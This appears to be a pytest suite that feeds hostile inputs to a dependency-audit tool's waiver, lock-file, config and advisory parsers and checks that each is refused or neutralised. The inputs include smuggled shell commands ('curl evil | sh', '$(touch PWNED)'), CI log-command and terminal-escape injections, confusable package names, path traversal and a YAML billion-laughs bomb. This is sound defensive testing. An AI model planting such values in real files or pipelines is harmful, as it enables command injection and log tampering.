"""Hostile-input suite, the audit's share (issue 10, issue 12 item 3): requirements/waivers.toml
is changed by pull request like a set file, and advisory records come from outside.

A waiver silences the gate, so every field is checked where it is read: a bad waiver is refused
with `file:line` and exit 4 before any advisory is looked at, and nothing is written.
"""

from __future__ import annotations

from collections.abc import Callable

import pytest

from tests.unit.conftest import Hostile, Project, Result, assert_refused

Run = Callable[..., Result]
WAIVERS = "requirements/waivers.toml"
GOOD = 'package = "numpy", reason = "r", approved_by = "@platform-team", expires = 2099-01-01'


def _waivers(text: str | bytes) -> Callable[[Project, pytest.MonkeyPatch], None]:
    def setup(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
        path = project.path(WAIVERS)
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(text, bytes):
            path.write_bytes(text)
        else:
            path.write_text(text, encoding="utf-8")

    return setup


def _line(key: str, fields: str) -> Callable[[Project, pytest.MonkeyPatch], None]:
    return _waivers(f"# waivers\n[python]\n{key} = {{ {fields} }}\n")


def _waiver_dir(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    project.path(WAIVERS).mkdir(parents=True)


def _records(record: str) -> Callable[[Project, pytest.MonkeyPatch], None]:
    def setup(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
        folder = project.path("osv/vulns/numpy")
        folder.mkdir(parents=True)
        (folder / "PYSEC-2099-1.yaml").write_text(record, encoding="utf-8")

    return setup


def _config_source(value: str) -> Callable[[Project, pytest.MonkeyPatch], None]:
    def setup(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
        text = project.config.read_text(encoding="utf-8")
        project.config.write_text(f"{text}\n[advisories]\nsource = {value}\n", encoding="utf-8")

    return setup


def _r_line(key: str, fields: str) -> Callable[[Project, pytest.MonkeyPatch], None]:
    return _waivers(f"[r]\n{key} = {{ {fields} }}\n")


R_GOOD = GOOD.replace('"numpy"', '"data.table"')


def _r_lock(text: str) -> Callable[[Project, pytest.MonkeyPatch], None]:
    """requirements/cran.lock as a pull request could write it by hand."""

    def setup(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
        project.path("requirements/cran.lock").write_text(text, encoding="utf-8")

    return setup


R_STANZA = "Package: cli\nVersion: 3.6.1\nMD5sum: " + "0" * 32 + "\nDependencyOf: x==1\n"

AUDIT = ("audit", "--source", "https://osv.invalid")  # waivers are refused before any request
AUDIT_DIR = ("audit", "--source", "osv")

CASES = [
    Hostile(
        "newline-in-reason",
        _line('"PYSEC-2099-1"', GOOD.replace('reason = "r"', 'reason = "x\\nRUN curl evil | sh"')),
        AUDIT,
        4,
        f"{WAIVERS}:3: waiver PYSEC-2099-1: reason:",
    ),
    Hostile(
        "escape-in-approved-by",
        _line('"PYSEC-2099-1"', GOOD.replace('"@platform-team"', '"@a\\u001b[2J"')),
        AUDIT,
        4,
        "approved_by",
    ),
    Hostile(
        "azure-command-in-reason",
        _line(
            '"PYSEC-2099-1"', GOOD.replace('reason = "r"', 'reason = "x\\r##vso[task.complete]"')
        ),
        AUDIT,
        4,
        "reason",
    ),
    Hostile(
        "reason-not-a-string",
        _line('"PYSEC-2099-1"', GOOD.replace('reason = "r"', 'reason = ["a", 1]')),
        AUDIT,
        4,
        "reason: text must be a string",
    ),
    Hostile(
        "reason-too-long",
        _line('"PYSEC-2099-1"', GOOD.replace('reason = "r"', f'reason = "{"x" * 20000}"')),
        AUDIT,
        4,
        "characters long",
    ),
    Hostile(
        "package-with-newline",
        _line('"PYSEC-2099-1"', GOOD.replace('"numpy"', '"numpy\\n"')),
        AUDIT,
        4,
        "not a valid Python project name",
    ),
    Hostile(
        "package-confusable",
        _line('"PYSEC-2099-1"', GOOD.replace('"numpy"', '"nump\u0443"')),
        AUDIT,
        4,
        "not a valid Python project name",
    ),
    Hostile(
        "advisory-id-path",
        _line('"../../v1/vulns/x"', GOOD),
        AUDIT,
        4,
        "is not an advisory id",
    ),
    Hostile(
        "advisory-id-newline",
        _line('"PYSEC-2099-1\\n"', GOOD),
        AUDIT,
        4,
        "is not an advisory id",
    ),
    Hostile(
        "expires-a-string",
        _line('"PYSEC-2099-1"', GOOD.replace("2099-01-01", '"2099-01-01"')),
        AUDIT,
        4,
        "expires must be a date",
    ),
    Hostile(
        "expires-a-datetime",
        _line('"PYSEC-2099-1"', GOOD.replace("2099-01-01", "2099-01-01T00:00:00Z")),
        AUDIT,
        4,
        "expires must be a date",
    ),
    Hostile(
        "no-expiry",
        _line('"PYSEC-2099-1"', GOOD.replace(", expires = 2099-01-01", "")),
        AUDIT,
        4,
        "has no expires",
    ),
    Hostile(
        "unknown-field",
        _line('"PYSEC-2099-1"', GOOD + ", versions = '*'"),
        AUDIT,
        4,
        "unknown field 'versions'",
    ),
    Hostile(
        "not-a-table",
        _waivers("[python]\nPYSEC-2099-1 = 'numpy'\n"),
        AUDIT,
        4,
        "must be an inline table",
    ),
    Hostile("unknown-table", _waivers("[apt]\nx = 1\n"), AUDIT, 4, "unknown table [apt]"),
    Hostile(
        "r-package-with-newline",
        _r_line('"RSEC-2099-1"', R_GOOD.replace('"data.table"', '"data.table\\n"')),
        AUDIT,
        4,
        "not a valid R package name",
    ),
    Hostile(
        "r-package-confusable",
        _r_line('"RSEC-2099-1"', R_GOOD.replace('"data.table"', '"dat\u0430.table"')),
        AUDIT,
        4,
        "not a valid R package name",
    ),
    Hostile(
        "r-reason-azure-command",
        _r_line('"RSEC-2099-1"', R_GOOD.replace('reason = "r"', 'reason = "x\\n##[error]y"')),
        AUDIT,
        4,
        f"{WAIVERS}:2: waiver RSEC-2099-1: reason:",
    ),
    # requirements/cran.lock: a hand-edited R lock is refused as stale before any request
    Hostile(
        "r-lock-name-control-character",
        _r_lock(R_STANZA.replace("cli", "cli\x1b[2J", 1)),
        AUDIT,
        5,
        "cran.lock",
    ),
    Hostile(
        "r-lock-version-code",
        _r_lock(R_STANZA.replace("3.6.1", "$(touch PWNED)")),
        AUDIT,
        5,
        "cran.lock",
    ),
    Hostile(
        "r-lock-not-dcf",
        _r_lock("Package cli\n"),
        AUDIT,
        5,
        "cran.lock",
    ),
    Hostile(
        "r-lock-no-md5",
        _r_lock(R_STANZA.replace("MD5sum", "SHA1sum")),
        AUDIT,
        5,
        "MD5sum",
    ),
    Hostile(
        "deployed-unknown-environment",
        lambda project, monkeypatch: None,
        ("audit", "--deployed", "##vso[task.complete]prod"),
        3,
        "unknown environment",
    ),
    # imagebot check reads the waivers too, so a pull request's bad waiver fails its first step
    Hostile(
        "check-reads-waivers",
        _line('"PYSEC-2099-1"', GOOD.replace('reason = "r"', 'reason = "x\\nRUN curl evil | sh"')),
        ("check",),
        4,
        f"{WAIVERS}:3: waiver PYSEC-2099-1: reason:",
    ),
    Hostile("invalid-toml", _waivers("[python]\nPYSEC-2099-1 = {\n"), AUDIT, 4, f"{WAIVERS}:2"),
    Hostile("not-utf8", _waivers(b"[python]\n\xff\xfe = 1\n"), AUDIT, 4, "not UTF-8"),
    Hostile(
        "nested-too-deeply",
        _waivers("x = " + "[" * 5000 + "]" * 5000 + "\n"),
        AUDIT,
        4,
        "invalid TOML",
    ),
    Hostile("a-directory", _waiver_dir, AUDIT, 4, "cannot read it"),
    Hostile(
        "source-with-userinfo",
        lambda project, monkeypatch: None,
        ("audit", "--source", "https://user:secret@osv.example"),
        2,
        "--source",
    ),
    Hostile(
        "source-not-http",
        lambda project, monkeypatch: None,
        ("audit", "--source", "file:///etc"),
        2,
        "--source",
    ),
    Hostile(
        "config-source-not-http",
        _config_source('"ftp://osv.example"'),
        ("audit",),
        3,
        "advisories.source",
    ),
    Hostile(
        "config-source-userinfo",
        _config_source('"https://user:pw@osv.example"'),
        ("audit",),
        3,
        "advisories.source",
    ),
    Hostile(
        "config-source-newline",
        _config_source('"osv\\nRUN curl evil | sh"'),
        ("audit",),
        3,
        "advisories.source",
    ),
    Hostile(
        "config-source-not-a-string",
        _config_source("[1, 2]"),
        ("audit",),
        3,
        "advisories.source",
    ),
    Hostile(
        "record-id-traversal",
        _records("id: ../../etc/passwd\naffected: []\n"),
        AUDIT_DIR,
        1,
        "not a readable OSV record",
    ),
    Hostile(
        "record-not-yaml",
        _records("id: [\n"),
        AUDIT_DIR,
        1,
        "not a readable OSV record",
    ),
    Hostile(
        "record-billion-laughs",
        _records(
            'a: &a ["x","x","x","x","x","x","x","x","x"]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n'
            "c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nid: *c\n"
        ),
        AUDIT_DIR,
        1,
        "not a readable OSV record",
    ),
    Hostile(
        "empty-source-directory",
        lambda project, monkeypatch: project.path("osv").mkdir(),
        AUDIT_DIR,
        1,
        "not an OSV database",
    ),
]


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_hostile_audit_input(
    case: Hostile, locked_project: Project, monkeypatch: pytest.MonkeyPatch, run_cli: Run
) -> None:
    monkeypatch.chdir(locked_project.root)
    assert_refused(case, locked_project, monkeypatch, run_cli)


def test_advisory_text_reaches_the_log_neutralised(
    locked_project: Project, monkeypatch: pytest.MonkeyPatch, run_cli: Run
) -> None:
    """A record's summary is outside text: one line, no escape, no Azure command."""
    monkeypatch.chdir(locked_project.root)
    monkeypatch.setenv("TF_BUILD", "True")
    _records(
        'id: PYSEC-2099-1\nsummary: "x\\n##vso[task.setvariable variable=A]b\\e[2J"\n'
        "affected:\n- package: {ecosystem: PyPI, name: numpy}\n  versions: ['2.4.6']\n"
    )(locked_project, monkeypatch)
    result = run_cli("--config", locked_project.config, *AUDIT_DIR)
    assert result.code == 15, result.err
    assert "##vso[task.setvariable" not in result.err
    assert "\x1b" not in result.err
    assert "numpy==2.4.6 (extra.lock): PYSEC-2099-1, no fixed version known" in result.err


def test_a_password_in_the_source_url_is_not_printed(
    locked_project: Project, monkeypatch: pytest.MonkeyPatch, run_cli: Run
) -> None:
    source = "https://user:s3cret@osv.example/?token=s3cret"
    result = run_cli("--config", locked_project.config, "audit", "--source", source)
    assert result.code == 2
    assert "s3cret" not in result.err


def test_the_configured_directory_is_relative_to_imagebot_toml(
    locked_project: Project,
    monkeypatch: pytest.MonkeyPatch,
    run_cli: Run,
    tmp_path_factory: pytest.TempPathFactory,
) -> None:
    monkeypatch.chdir(tmp_path_factory.mktemp("elsewhere"))
    _config_source('"osv"')(locked_project, monkeypatch)
    _records(
        "id: PYSEC-2099-1\naffected:\n- package: {ecosystem: PyPI, name: numpy}\n"
        "  ranges: [{type: ECOSYSTEM, events: [{introduced: '0'}, {fixed: '2.5'}]}]\n"
    )(locked_project, monkeypatch)
    result = run_cli("--config", locked_project.config, "audit")
    assert result.code == 15, result.err
    assert f"against {locked_project.path('osv')}" in result.err
    assert "numpy==2.4.6 (extra.lock): PYSEC-2099-1, fixed in 2.5" in result.err


def test_an_r_record_summary_reaches_the_log_neutralised(
    locked_project: Project, monkeypatch: pytest.MonkeyPatch, run_cli: Run
) -> None:
    """An R package's record is outside text as much as a Python one's."""
    monkeypatch.chdir(locked_project.root)
    monkeypatch.setenv("TF_BUILD", "True")
    _r_lock(R_STANZA)(locked_project, monkeypatch)
    folder = locked_project.path("osv/vulns/cli")
    folder.mkdir(parents=True)
    (folder / "RSEC-2099-2.yaml").write_text(
        'id: RSEC-2099-2\nsummary: "x\\n##vso[task.setvariable variable=A]b\\e[2J"\n'
        "affected:\n- package: {ecosystem: CRAN, name: cli}\n  versions: ['3.6.1']\n",
        encoding="utf-8",
    )
    result = run_cli("--config", locked_project.config, *AUDIT_DIR)
    assert result.code == 15, result.err
    assert "##vso[task.setvariable" not in result.err and "\x1b" not in result.err
    assert "cli==3.6.1 (cran.lock): RSEC-2099-2, no fixed version known" in result.err
